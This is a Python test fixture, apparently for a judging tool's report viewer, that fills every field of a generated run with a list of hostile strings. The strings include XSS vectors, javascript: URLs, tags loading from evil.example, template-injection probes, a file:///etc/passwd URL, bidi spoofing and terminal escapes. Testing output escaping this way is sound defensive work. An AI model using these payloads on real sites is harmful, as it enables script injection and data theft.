"""Texts that break out of markup, attributes, addresses, styles, templates, terminals or the direction of writing."""

from __future__ import annotations

import asyncio
from concurrent.futures import ThreadPoolExecutor
from hashlib import sha256
from pathlib import Path

from local_judge.claims.model import Claim, ClaimSet, Evidence, Quote, Source, Verdict
from local_judge.documents import Problem, parse_report
from local_judge.documents.model import Span
from local_judge.ledger.ledger import Ledger
from local_judge.ledger.requests import Identified, Reply, Request
from local_judge.prompts import Prompt
from local_judge.protocols.fact.findings import FactFindings, Judged, Pair
from local_judge.runs.storage.items import claims_file, file_key
from local_judge.runs.storage.manifest import listed_inputs
from local_judge.runs.storage.records import CaseRecord
from local_judge.runs.storage.rescoring import rescore
from local_judge.runs.storage.seal import seal_run
from serving.types import EngineIdentity

from ..protocols.fact.fact_cases import write_run

CALL = "globalThis.broken=1"
STRINGS = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"<SCRIPT SRC=//evil.example/x.js>{CALL}</SCRIPT>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script\x0b>{CALL}</script>",
    f"<!--<script>{CALL}</script>-->",
    f"]]><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</textarea><img src=x onerror={CALL}>",
    f"<img src=x onerror={CALL}>",
    f"<img src=x onerror='{CALL}'//",
    f"<img/src/onerror={CALL}>",
    f"<image src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{CALL}'><text>x</text></a></svg>",
    f"<svg><set attributeName=href to=javascript:{CALL}>",
    f"<svg><foreignObject><iframe srcdoc='<script>{CALL}</script>'></foreignObject></svg>",
    f"<math><mtext></p><img src=x onerror={CALL}></mtext></math>",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<marquee onstart={CALL}>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<object data='data:text/html,<script>{CALL}</script>'></object>",
    "<embed src=https://evil.example/x.swf>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<form action=https://evil.example/><button>go</button></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<p style='background:url(https://evil.example/)'>x",
    f'" onmouseover="{CALL}" x="',
    f"' onfocus='{CALL}' autofocus '",
    f"` onclick={CALL} `",
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"\x01javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"vbscript:{CALL}",
    f"https://a.example/'onclick={CALL}//",
    f'https://a.example/"><script>{CALL}</script>',
    "https://user:secret@evil.example/",
    "file:///etc/passwd",
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    "__proto__",
    "constructor",
    "\u202e)evil(\u202c txt.exe",
    "\u2066\u2067\u2068hidden\u2069\u2069\u2069",
    "many" + "\u200b" * 150_000,
    "zero\u200bwidth\u200c\u200d\u2060\ufeff",
    "tags\U000e0041\U000e0042\U000e007f",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J",
    "\x9b31mcsi \x90dcs\x9c",
    "line\u2028separator\u2029paragraph",
    "nul\x00byte \x7f del",
    "[click](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "&lt;script&gt;" + CALL + "&lt;/script&gt;",
    "&#60;script&#62;" + CALL,
    "\\u003cscript\\u003e" + CALL,
    "%3Cscript%3E" + CALL,
    "]]]]><![CDATA[>",
    "-->--!>",
    "😀" * 3 + "𝔘𝔫𝔦" + "é" * 3,
)
"""Seventy and more hostile texts. A JSON file of a run cannot hold a lone surrogate."""


def hostile_run(folder: Path) -> tuple[Path, Path]:
    """Make a run with a hostile text in every place, and the folder of its reports."""
    reports = folder / "reports"
    reports.mkdir(parents=True)
    records: list[CaseRecord] = []
    found: dict[str, FactFindings] = {}
    sets: dict[str, ClaimSet] = {}
    for number, text in enumerate(STRINGS):
        body = f"# {text}\n\nA sentence that says {text} here [1].\n".replace("\x00", "")
        (reports / f"r{number}.md").write_text(body, encoding="utf-8")
        document = parse_report(body)
        record = CaseRecord(
            id=f"{number} {text}",
            key=file_key(f"{number} {text}"),
            document=document.id,
            task=f"task {text}",
            system=f"{text} system {number % 3}",
            attributes={"topic": text, "language": "en"},
            n_words=100 + number,
            status="done",
            n_sources=1,
            n_sources_read=1,
            problems=(Problem(kind="unread_marks", n=1, of=2),),
        )
        records.append(record)
        found[record.id] = _findings(record, text)
        sets[record.id] = _claims(record, text, len(body))
    store = write_run(folder / "run", found, *records)
    digests = [sha256(path.read_bytes()).hexdigest() for path in sorted(reports.iterdir())]
    inputs = [{"id": digest, "sha256": digest} for digest in digests]
    store.write_jsonl("inputs.jsonl", inputs)
    store.write_json(
        "manifest.json",
        {
            "format_version": 4,
            "config": {"protocols": ["fact"]},
            "reports": listed_inputs(inputs),
            "judges": [],
        },
    )
    store.write_items(claims_file(None), sets.items())
    rescore(store, ["fact"], records)
    seal_run(store)
    with ThreadPoolExecutor() as other:  # the browser's driver has an event loop in this thread
        other.submit(asyncio.run, _asked(store.ledger)).result()
    return store.root, reports


def _request(text: str) -> Request:
    """Return a prompt of hostile parts, asked of a judge with a hostile name."""
    prompt = Prompt(shared=f"{text} shared", own=text, prefix_key="p", system=f"{text} system")
    return Request(Identified.of(EngineIdentity(model=text, engine="scripted")), prompt, "generate")


async def _asked(ledger: Path) -> None:
    """Store a hostile reply to each prompt."""
    with Ledger.open(ledger) as replies:
        for text in STRINGS:
            request = _request(text)
            reply = Reply(
                key=request.key,
                kind="generate",
                text=text,
                reasoning=text,
                created="2026-01-01T00:00:00+00:00",
                latency=0.1,
            )
            await replies.put(request, reply)


def _findings(record: CaseRecord, text: str) -> FactFindings:
    said = Judged(label="unsupported", quote=Quote(text=text, start=0, end=len(text)), rationale=text)
    pair = Pair(statement=text, url=text, outcome="unsupported", claim="L2.S1.1", judged=said)
    return FactFindings(
        case=record.id,
        document=record.document or "",
        source="own",
        article=text,
        pairs=(pair,),
        n_citations=1,
    )


def _claims(record: CaseRecord, text: str, length: int) -> ClaimSet:
    claim = Claim(
        id="L2.S1.1",
        text=text,
        sentence="L2.S1",
        span=Span(start=length // 2, end=length - 1),
        type="A",
    )
    verdict = Verdict(
        claim=claim.id,
        url=text,
        label="contradicted",
        quote=Quote(text=text, start=3, end=3 + len(text)),
        quote_rejected=text,
        rationale=text,
        evidence=Evidence(url=text, text_digest="", chunks=(), whole_page=True),
        method="grouped",
        replies=(_request(text).key,),
    )
    source = Source(url=text, status="ok", reason=text, text_digest="x", claims=(claim.id,))
    return ClaimSet(
        document=record.document or "", n_sentences=1, claims=(claim,), sources=(source,), verdicts=(verdict,)
    )
